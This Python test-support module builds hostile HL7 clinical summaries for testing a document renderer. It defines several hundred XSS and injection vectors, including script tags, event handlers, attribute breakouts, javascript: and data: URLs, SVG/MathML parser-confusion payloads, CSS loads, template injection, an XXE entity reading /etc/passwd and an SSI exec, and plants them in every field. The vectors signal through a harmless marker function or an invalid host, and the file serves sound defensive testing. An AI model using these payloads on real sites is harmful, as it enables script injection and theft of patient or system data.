"""Clinical documents that try to run, load or open something, from every place a page takes words from.

``VECTORS`` are texts that do harm where a page does not keep words and markup apart; ``hostile_documents`` puts them
into every text and every attribute of a full summary, all of them into each place over the set. A vector that runs
calls ``ran`` (``tests.support.browser``); one that loads or navigates goes to a host that does not exist.
Sources: WHATWG HTML 13.2 (parsing), OWASP's "Cross Site Scripting Prevention", W3C "Unicode in XML" (controls).
"""

from __future__ import annotations

import base64
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from lxml import etree
from lxml.etree import _Element

from tests.support.demo_summaries import demo_summaries

V3 = "urn:hl7-org:v3"
HOST = "hostile.invalid"

_RAN = "ran(String(%d))"
_URL = f"//{HOST}/%d"

# {s} is a script that tells it ran, {u} an address that is seen when asked for.
_SCRIPTS = (
    "<script>{s}</script>",
    "<SCRIPT>{s}</SCRIPT >",
    "<script\n>{s}</script\n>",
    "<script/x>{s}</script>",
    "<script type=module>{s}</script>",
    "<script src={u}></script>",
    "<script async src='{u}'></script>",
    "</script><script>{s}</script>",
    "--><script>{s}</script><!--",
    "]]><script>{s}</script><![CDATA[",
    "<![CDATA[<script>{s}</script>]]>",
    "<!--[if true]><script>{s}</script><![endif]-->",
    "<!--><script>{s}</script>-->",
    "<!-- --!><script>{s}</script>",
    "<?xml-stylesheet href='{u}'?><script>{s}</script>",
    "<<script>{s}//<</script>",
    "<scr<script>ipt>{s}</scr</script>ipt>",
    "<script>{s}",
    "\u003cscript\u003e{s}\u003c/script\u003e",
    "\uff1cscript\uff1e{s}\uff1c/script\uff1e",
    "+ADw-script+AD4-{s}+ADw-/script+AD4-",
    "%3Cscript%3E{s}%3C/script%3E",
    "%253Cscript%253E{s}%253C%252Fscript%253E",
    "&lt;script&gt;{s}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{s}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{s}&#60;/script&#62;",
    "&#x3c;script&#x3e;{s}&#x3c;/script&#x3e;",
    "&#0000060script&#0000062{s}&#0000060/script&#0000062",
    "&LT;script&GT;{s}&LT;/script&GT;",
    "\\x3cscript\\x3e{s}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{s}\\u003c/script\\u003e",
    "<script>/*\u2028*/{s}</script>",
)
_HANDLERS = (
    "<img src=x onerror={s}>",
    "<img src onerror='{s}'>",
    "<image href=x onerror={s}>",
    '<img """><script>{s}</script>">',
    "<img src=x:x onerror\t=\t{s} //",
    "<body onload={s}>",
    "<body onpageshow={s} onfocus={s}>",
    "<html onmouseover={s}>",
    "<div onpointerover={s}>x</div>",
    "<p onmousemove='{s}'>x</p>",
    "<b onclick={s}>x</b>",
    "<xss onclick={s} tabindex=1 autofocus onfocus={s}>x</xss>",
    "<input autofocus onfocus={s}>",
    "<input type=image src=x onerror={s}>",
    "<select autofocus onfocus={s}></select>",
    "<textarea autofocus onfocus={s}></textarea>",
    "<button popovertarget=p onclick={s}>x</button><div popover id=p onbeforetoggle={s}>x</div>",
    "<details open ontoggle={s}><summary>x</summary></details>",
    "<marquee onstart={s}>x</marquee>",
    "<video src=x onerror={s}></video>",
    "<video><source onerror={s}></video>",
    "<audio src=x onerror={s}></audio>",
    "<object data=x onerror={s}></object>",
    "<style onload={s}></style>",
    "<link rel=stylesheet href={u} onload={s} onerror={s}>",
    "<svg onload={s}>",
    "<svg/onload={s}>",
    "<iframe onload={s}></iframe>",
    "<p style=animation:x onanimationstart={s}>x</p><style>@keyframes x{{}}</style>",
    "<p contenteditable onbeforeinput={s} oninput={s} onpaste={s}>x</p>",
    "<form onsubmit={s}><input type=submit></form>",
    "<form><button formaction=javascript:{s}>x</button></form>",
    "<label onclick={s}>x<input></label>",
    "<dialog open oncancel={s} onclose={s} onclick={s}>x</dialog>",
    "<td onwheel={s} onauxclick={s}>x</td>",
    "<a onkeydown={s} oncopy={s} tabindex=0>x</a>",
)
_BREAKOUTS = (
    '"><script>{s}</script>',
    "'><script>{s}</script>",
    "`><script>{s}</script>",
    '" onmouseover="{s}',
    "' onmouseover='{s}",
    "` onmouseover=`{s}",
    " onmouseover={s} ",
    '" autofocus tabindex=1 onfocus="{s}" x="',
    "' autofocus tabindex=1 onfocus='{s}' x='",
    '"/onclick={s}/x="',
    "x\tonclick={s}",
    "x\nonclick={s}",
    "x\u000conclick={s}".replace("\u000c", "\u0085"),
    '"\u00a0onclick="{s}',
    "&quot; onmouseover=&quot;{s}",
    "&#34; onmouseover=&#34;{s}",
    "&#39; onmouseover=&#39;{s}",
    '\\" onmouseover=\\"{s}',
    "\\';{s}//",
    '";{s}//',
    "';{s}//",
    "`;{s}//",
    '" style="background:url({u})',
    "' style='background:url({u})",
    '" href="javascript:{s}',
    '" src="{u}',
    '"><a href="{u}">x</a>',
    '"><img src="{u}">',
    "/><img src={u}>",
    "></td></tr></table><script>{s}</script>",
    "</title><script>{s}</script>",
    "</style><script>{s}</script>",
    "</textarea><script>{s}</script>",
    "</noscript><script>{s}</script>",
    "</template><script>{s}</script>",
    "</summary></details></main></body></html><script>{s}</script>",
    "</caption></table><img src={u}>",
    "</p></div></section><img src={u}>",
    "</option></select><img src=x onerror={s}>",
    "</svg></math><img src=x onerror={s}>",
)
_ADDRESSES = (
    "javascript:{s}",
    "JaVaScRiPt:{s}",
    " javascript:{s}",
    "java\tscript:{s}",
    "java\nscript:{s}",
    "\u0085javascript:{s}",
    "javascript&colon;{s}",
    "&#106;avascript:{s}",
    "javascript://%0a{s}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{s}//'>",
    "vbscript:{s}",
    "livescript:{s}",
    "data:text/html,<script>{s}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oIjEiKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={s} xmlns='http://www.w3.org/2000/svg'/>",
    "blob:{u}",
    "file:///etc/passwd",
    "view-source:{u}",
    "https:{u}",
    "{u}",
    "\\\\hostile.invalid\\share",
    'mailto:x@hostile.invalid?subject=" onclick={s}',
    'tel:"><script>{s}</script>',
    '#"><script>{s}</script>',
    "#' onclick={s} x='",
    "<a href=javascript:{s}>x</a>",
    '<a href="java&#x09;script:{s}">x</a>',
    "<a href=https:{u} target=_blank>x</a>",
    "<a download href='data:text/plain,x'>x</a>",
    "<a ping={u} href=#>x</a>",
    "<area shape=default href=javascript:{s}>",
    "<form action=javascript:{s}><input type=submit></form>",
    "<form action=https:{u}><button>x</button></form>",
    "<iframe src=javascript:{s}></iframe>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc='<script>parent.{s}</script>'></iframe>",
    "<object data='data:text/html,<script>{s}</script>'></object>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<embed src='data:image/svg+xml,<svg onload={s}>'>",
    "<frameset><frame src=javascript:{s}></frameset>",
    "<base href=https:{u}/>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=https:{u}'>",
    '<meta http-equiv=refresh content="0;javascript:{s}">',
    "<meta http-equiv=set-cookie content=a=b>",
    "<meta charset=utf-7>",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href={u}>",
    "<link rel=preload as=image href={u}>",
    "<link rel=prefetch href={u}>",
    "<link rel=icon href={u}>",
    "<link rel=manifest href={u}>",
    "<link rel=import href={u}>",
    "<portal src={u}></portal>",
    "<applet code=x codebase={u}></applet>",
    "<img src={u}>",
    "<img srcset='{u} 1x'>",
    "<picture><source srcset={u}><img></picture>",
    "<video poster={u}></video>",
    "<video src={u} autoplay></video>",
    "<audio src={u} preload=auto></audio>",
    "<track src={u}>",
    "<input type=image src={u}>",
    "<body background={u}>",
    "<table background={u}><tr><td background={u}>x</table>",
)
_FOREIGN = (
    "<svg><script>{s}</script></svg>",
    "<svg><script href={u} /></svg>",
    "<svg><script>&#114;an(String(1))</script></svg>",
    "<svg><style>*{{background:url({u})}}</style></svg>",
    "<svg><image href={u} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{s}</script></svg>#x'/></svg>",
    "<svg><a href=javascript:{s}><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={s} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{s} />",
    "<svg><foreignObject><body onload={s}></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{s}</script>'></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror={s}></desc></svg>",
    '<svg></p><style><g title="</style><img src=x onerror={s}>">',
    "<svg><title><style><img src=x onerror={s}></style></title></svg>",
    "<svg><![CDATA[><img src=x onerror={s}>]]></svg>",
    "<math><a xlink:href=javascript:{s}>x</a></math>",
    "<math href=javascript:{s}>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={s}></style></mglyph></table></mtext></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={s}&gt;">',
    "<math><mi><table><mglyph><style></math><img src=x onerror={s}>",
    "<math><annotation-xml encoding=text/html><script>{s}</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>",
    '<noscript><p title="</noscript><img src=x onerror={s}>">',
    "<template><script>{s}</script></template>",
    "<template shadowrootmode=open><script>{s}</script></template>",
    '<textarea><p title="</textarea><img src=x onerror={s}>">',
    '<title><p title="</title><img src=x onerror={s}>">',
    '<xmp><p title="</xmp><img src=x onerror={s}>">',
    '<iframe><p title="</iframe><img src=x onerror={s}>">',
    '<noembed><p title="</noembed><img src=x onerror={s}>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror={s}>">',
    "<table><td><form><table><img src=x onerror={s}>",
    "<option><style></option></select><b><img src=x onerror={s}></style></option>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{s}</x:script>",
)
_STYLES = (
    "expression({s})",
    "width: expression({s})",
    "background: url({u})",
    "background-image: url('{u}')",
    "background: url(javascript:{s})",
    "behavior: url({u})",
    "-moz-binding: url({u}#x)",
    "@import url({u});",
    "@import '{u}';",
    'Bold" style="background:url({u})"',
    "Bold' style='background:url({u})'",
    "Bold; background: url({u})",
    "}} * {{ background: url({u}) }} x {{",
    "*/ * {{ background: url({u}) }} /*",
    "\\75 rl({u})",
    "</style><style>*{{background:url({u})}}</style>",
    "<style>@import '{u}';</style>",
    "<style>*{{background-image:url({u})}}</style>",
    "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
    '<div style="background:url({u})">x</div>',
    "<div style=position:fixed;inset:0;background:url({u})>x</div>",
    "image-set('{u}' 1x)",
    "list-style-image: url({u})",
    "content: url({u})",
    "cursor: url({u}), auto",
    "attr(x url) var(--x,url({u}))",
)
_NAMES = (
    "alerts",
    "sections",
    "__proto__",
    "constructor",
    "document",
    "location",
    "<form id=document><input name=body></form>",
    "<a id=location href={u}>x</a>",
    "<img name=cookie src={u}>",
    "<form name=forms><input name=attributes></form>",
    "body",
    '" id="alerts',
)
_TEMPLATES = (
    "{{{{{s}}}}}",
    "{{{{constructor.constructor('{s}')()}}}}",
    "${{{s}}}",
    "#{{{s}}}",
    "<%= {s} %>",
    "<%- {s} %>",
    "{{% {s} %}}",
    "{{{{{{{s}}}}}}}",
    "[[${{{s}}}]]",
    "@({s})",
    "<!--#exec cmd='id'-->",
    "<?php {s} ?>",
    "<?= {s} ?>",
    "{{0.__class__}}",
    "%s%n%d",
    "{{0}}",
    "$1 \\1 \\g<0>",
    "<x ng-app ng-csp><x ng-click={s}>{{{{$eval.constructor('{s}')()}}}}</x></x>",
    "<x hx-get={u} hx-trigger=load>x</x>",
    '<x data-bind="{s}" x-init={s} v-html={s} @click={s}>x</x>',
    "<slot onslotchange={s}>x</slot>",
)
_CONTROLS = (
    "\u202e>tpircs/<1>tpircs<",
    "\u2066\u202egnp.exe\u2069",
    "\u202afirst\u202c \u202bsecond\u202c",
    "java\u200bscript:{s}",
    "<scr\u200bipt>{s}</script>",
    "\ufeff<script>{s}</script>",
    "<\u2060script>{s}</script>",
    "\u00adon\u00adclick={s}",
    "\u061c\u180e\u200e\u200f",
    "\u009b\u0090\u0084\u0080",
    "<script\u00a0x>{s}</script>",
    "<img\u3000src=x\u3000onerror={s}>",
    "<img src=x onerror\u2028={s}>",
    "\ufffd<script>{s}</script>",
    "\U000e0001\U000e0041<script>{s}</script>",
    "\ud7ff\ue000\ufffd",
    "\u0130<script>\u017f{s}</\u017fcript>",
    "e\u0301\u0338<script>{s}</script>\u0338>",
    "&nbsp;&zwnj;&#x202e;&#0;&#xD800;&#x110000;<b onclick={s}>x</b>",
    "&NewLine;&Tab;&lpar;javascript&colon;{s}&rpar;",
)
# What swallows the rest where it works goes last.
_SWALLOWERS = (
    "<plaintext>",
    "<!--",
    "<textarea>",
    "<title>",
    "<style>",
    "<script>",
    "<xmp>",
    "<noscript>",
    "<iframe>",
    "<![CDATA[",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<select><option>",
    "<template>",
    "<svg><desc>",
    '<a href="',
    "<img src='{u}?",
)


def _filled(texts: tuple[str, ...], start: int) -> tuple[str, ...]:
    return tuple(text.format(s=_RAN % number, u=_URL % number) for number, text in enumerate(texts, start))


VECTORS = _filled(
    (
        *_SCRIPTS, *_HANDLERS, *_BREAKOUTS, *_ADDRESSES, *_FOREIGN, *_STYLES, *_NAMES, *_TEMPLATES, *_CONTROLS,
    ),
    1000,
)  # fmt: skip
SWALLOWERS = _filled(_SWALLOWERS, 5000)
GROUPS = 5
"""Each place takes the vectors of one group in one document, and those of another group in the next one."""


@dataclass(frozen=True)
class Hostile:
    """A document, and how many places of it were spoilt."""

    name: str
    content: bytes
    places: int

    def __str__(self) -> str:
        return self.name


# What makes the reader understand a place: with other words here it would be shown raw, by another way.
_FRAME = {
    *("classCode", "moodCode", "typeCode", "inversionInd", "determinerCode", "negationInd", "contextControlCode"),
    *("codeSystem", "root", "institutionSpecified", "operator", "listType", "revised"),
}
_MEANING = {"code", "value", "unit", "nullFlavor"}
_CODED_BY_PLACE = {"statusCode", "languageCode", "realmCode", "typeId", "templateId"}


def _keeps_meaning(element: _Element, attribute: str) -> bool:
    """Keeps what says which entry this is, so that words come where a good document has them."""
    name = etree.QName(element).localname
    return attribute in _FRAME or name in _CODED_BY_PLACE or (attribute in _MEANING and name not in ("telecom",))


def _keeps_shape(element: _Element, attribute: str) -> bool:
    """Keeps only what makes it a summary with sections."""
    name, parent = etree.QName(element).localname, element.getparent()
    is_section = name == "code" and parent is not None and etree.QName(parent).localname == "section"
    return name in ("templateId", "typeId") or (is_section and attribute in ("code", "codeSystem"))


def _after(original: str, vector: str) -> str:
    return original + vector


def _before(original: str, vector: str) -> str:
    return vector + original


def _instead(original: str, vector: str) -> str:
    return vector


_WAYS: tuple[Callable[[str, str], str], ...] = (_instead, _after, _before)


def hostile_documents(base: bytes = b"") -> Iterator[Hostile]:
    """A full summary with vectors everywhere, again and again until each place had all of them. ``base``: the document
    to spoil; else the fullest of the demonstration."""
    taken = base or _demo()
    for keeps, label in ((_keeps_meaning, "words"), (_keeps_shape, "everything")):
        for turn in range(GROUPS):
            content, places = spoilt(taken, turn, keeps, _WAYS[turn % len(_WAYS)])
            yield Hostile(f"{label}-{turn}", content, places)


def group(number: int) -> str:
    """The vectors of a group in a row, then one of those that swallow what follows."""
    chosen = VECTORS[number % GROUPS :: GROUPS]
    return "\u2009".join((*chosen, SWALLOWERS[number % len(SWALLOWERS)]))


class _Words:
    """What to put where. The first places of a kind in a section take a whole group, the many others one vector each:
    a page of ten megabytes would try nothing that one of three does not."""

    def __init__(self, turn: int) -> None:
        self._turn = turn
        self._seen: Counter[tuple[str, ...]] = Counter()
        self.places = 0

    def next(self, kind: tuple[str, ...]) -> str:
        self.places += 1
        self._seen[kind] += 1
        number = self._turn + self.places
        return group(number) if self._seen[kind] <= _WHOLE else VECTORS[number * 7 % len(VECTORS)]


_WHOLE = 2


def spoilt(
    content: bytes, turn: int, keeps: Callable[[_Element, str], bool], way: Callable[[str, str], str] = _instead
) -> tuple[bytes, int]:
    """A document with the vectors of the group that is ``turn`` places on; and how many places it has."""
    root = etree.fromstring(content, etree.XMLParser(resolve_entities=False, no_network=True))
    _enrich(root)
    words = _Words(turn)
    names: dict[str, str] = {}
    section = ""
    for element in list(root.iter("*")):
        parent, name = element.getparent(), etree.QName(element).localname
        section = section + "'" if name == "section" else section
        kind = (section, etree.QName(parent).localname if parent is not None else "", name)
        for attribute in [str(each) for each in element.attrib]:
            if attribute.startswith("{"):
                continue
            original = element.get(attribute) or ""
            if attribute == "ID" or (attribute == "value" and original.startswith("#")):
                # A row and its words keep belonging together, whatever they are called.
                mark, target = ("#", original[1:]) if attribute == "value" else ("", original)
                if target not in names:
                    names[target] = words.next((*kind, attribute)) + target
                element.set(attribute, mark + names[target])
            elif not keeps(element, attribute):
                element.set(attribute, way(original, words.next((*kind, attribute))))
        if element.text and element.text.strip():
            element.text = way(element.text, words.next((*kind, "text()")))
        if element.tail and element.tail.strip():
            element.tail = way(element.tail, words.next((*kind, "tail()")))
    # A page that takes comments or instructions for words, or for markup, is wrong as well.
    root.insert(0, etree.Comment(" <script>ran(String(1))</script> "))
    root.addprevious(etree.ProcessingInstruction("xml-stylesheet", f"href='//{HOST}/pi' type='text/css'"))
    return etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8"), words.places


# --- full summaries -------------------------------------------------------------------------------------------------

_NARRATIVE = """
<text xmlns="urn:hl7-org:v3" ID="n0" language="hr" styleCode="Bold" mediaType="text/x-hl7-text+xml">words
  <paragraph ID="n1" language="hr" styleCode="Italics"><caption ID="n2" language="hr" styleCode="x">a</caption>b
    <content ID="n3" language="hr" revised="delete" styleCode="Bold Underline">c</content>
    <content revised="insert">d</content><sub>e</sub><sup>f</sup><br/>
    <linkHtml name="g" href="https://outside.example/" rel="h" rev="i" title="j" ID="n4" language="hr" styleCode="x">k
    </linkHtml>
    <footnote ID="n5" language="hr" styleCode="x">l</footnote><footnoteRef ID="n6" IDREF="n5" language="hr">m
    </footnoteRef>
    <renderMultiMedia referencedObject="m1" ID="n7" language="hr" styleCode="x"><caption>n</caption></renderMultiMedia>
    <unknown onclick="o" style="p" class="q">r</unknown>
  </paragraph>
  <list ID="n8" language="hr" styleCode="Disc" listType="ordered"><caption>s</caption>
    <item ID="n9" language="hr" styleCode="x"><caption>t</caption>u</item></list>
  <table ID="n10" language="hr" styleCode="x" summary="v" width="100%" border="1" frame="box" rules="all"
    cellspacing="1" cellpadding="1"><caption>w</caption>
    <colgroup ID="n11" span="2" width="1" align="left" valign="top"><col ID="n12" span="1" width="1" align="left"/>
    </colgroup>
    <thead ID="n13" styleCode="x" align="left" valign="top"><tr ID="n14" styleCode="Botrule" align="left">
      <th ID="n15" abbr="x" axis="x" headers="x" scope="col" rowspan="1" colspan="2" align="left" styleCode="Lrule">y
      </th></tr></thead>
    <tfoot><tr><td>z</td></tr></tfoot>
    <tbody ID="n16"><tr><td ID="n17" abbr="x" axis="x" headers="n15" scope="row" rowspan="2" colspan="2" align="char"
      char="." charoff="1" valign="top" styleCode="Rrule">aa</td></tr></tbody>
  </table>
</text>"""
_ENTRIES = """
<x xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<entry><observationMedia classCode="OBS" moodCode="EVN" ID="m1"><id root="1.2.3" extension="m"/>
  <languageCode code="hr"/><value xsi:type="ED" mediaType="image/svg+xml" representation="B64" charset="utf-8">
  PHN2ZyBvbmxvYWQ9InJhbigxKSIvPg==</value></observationMedia></entry>
<entry><observation classCode="OBS" moodCode="EVN"><id root="1.2.3" extension="o" assigningAuthorityName="a"/>
  <code code="8480-6" codeSystem="2.16.840.1.113883.6.1" codeSystemName="LOINC" codeSystemVersion="1" displayName="n">
  <originalText>o<reference value="#n3"/></originalText><qualifier><name code="q" codeSystem="1.2.3" displayName="q"/>
  <value code="q" codeSystem="1.2.3" displayName="q"/></qualifier><translation code="t" codeSystem="1.2.3"
  codeSystemName="t" displayName="t"><originalText>t</originalText></translation></code>
  <text mediaType="text/html" representation="TXT">words<reference value="#n9"/></text><statusCode code="completed"/>
  <effectiveTime value="20200101"/><value xsi:type="PQ" value="1" unit="mg"><translation value="1" unit="g" code="mg"
  codeSystem="2.16.840.1.113883.6.8" displayName="mg"/></value><interpretationCode code="H" displayName="high"/>
  <methodCode code="m" displayName="m" codeSystem="1.2.3"/><targetSiteCode code="s" displayName="s" codeSystem="1.2.3"/>
  <reference typeCode="REFR"><externalDocument classCode="DOC" moodCode="EVN"><id root="1.2.3" extension="e"/>
  <code code="e" codeSystem="1.2.3" displayName="e"/><text mediaType="text/html">
  <reference value="https://outside.example/"/></text></externalDocument></reference>
  <referenceRange><observationRange><text>r</text><value xsi:type="IVL_PQ"><low value="1" unit="mg"/>
  <high value="2" unit="mg"/></value></observationRange></referenceRange></observation></entry>
<entry><observation classCode="OBS" moodCode="EVN"><code code="ST" codeSystem="1.2.3" displayName="text"/>
  <value xsi:type="ST">a text</value></observation></entry>
<entry><observation classCode="OBS" moodCode="EVN"><code nullFlavor="OTH" displayName="none"><originalText>x
  </originalText></code><value xsi:type="ED" mediaType="text/html">a text</value></observation></entry>
<entry><observation classCode="OBS" moodCode="EVN"><code code="U" codeSystem="1.2.3" displayName="address"/>
  <value xsi:type="URL" value="https://outside.example/"/></observation></entry>
</x>"""
_HEADER = """
<x xmlns="urn:hl7-org:v3">
<informant typeCode="INF"><relatedEntity classCode="PRS"><code code="FTH" displayName="father"/><addr use="H">all
  <city>c</city></addr><telecom value="mailto:x@outside.example" use="H"/><relatedPerson><name use="L">
  <prefix>p</prefix>
  <given qualifier="CL">g</given><family>f</family><suffix>s</suffix><delimiter>-</delimiter></name></relatedPerson>
  </relatedEntity></informant>
<relatedDocument typeCode="XFRM"><parentDocument><id root="1.2.3" extension="p"/><code code="p" displayName="p"/>
  <text mediaType="text/html">t</text><setId root="1.2.3" extension="s"/><versionNumber value="1"/></parentDocument>
  </relatedDocument>
<unheardOf onclick="x" href="https://outside.example/">words <b>bold</b></unheardOf>
</x>"""


def _demo() -> bytes:
    return max((each.content for each in demo_summaries() if each.level == "L3"), key=len)


def _enrich(root: _Element) -> None:
    """What the demonstration does not need and a document may have: the whole narrative grammar, media, references."""
    body = root.find(f"{{{V3}}}component")
    if body is None:
        return
    for each in etree.fromstring(_HEADER):
        body.addprevious(each)
    for section in list(root.iter(f"{{{V3}}}section"))[:3]:
        text = section.find(f"{{{V3}}}text")
        if text is not None:
            for each in etree.fromstring(_NARRATIVE):
                text.append(each)
        for each in etree.fromstring(_ENTRIES):
            section.append(each)
    for coded in root.iter(f"{{{V3}}}code", f"{{{V3}}}value"):
        if coded.get("displayName") and not len(coded):
            original = etree.SubElement(coded, f"{{{V3}}}originalText")
            original.text = "as written"
            etree.SubElement(coded, f"{{{V3}}}translation", code="n1", codeSystem="1.2.3", displayName="national")


def level_1(content: bytes, media_type: str = "application/pdf") -> bytes:
    """A document of level 1 around any bytes, announced as whatever."""
    root = etree.fromstring(next(each.content for each in demo_summaries() if each.level == "L1"))
    text = next(root.iter(f"{{{V3}}}nonXMLBody"))[0]
    text.set("mediaType", media_type)
    text.text = base64.encodebytes(content).decode()
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")
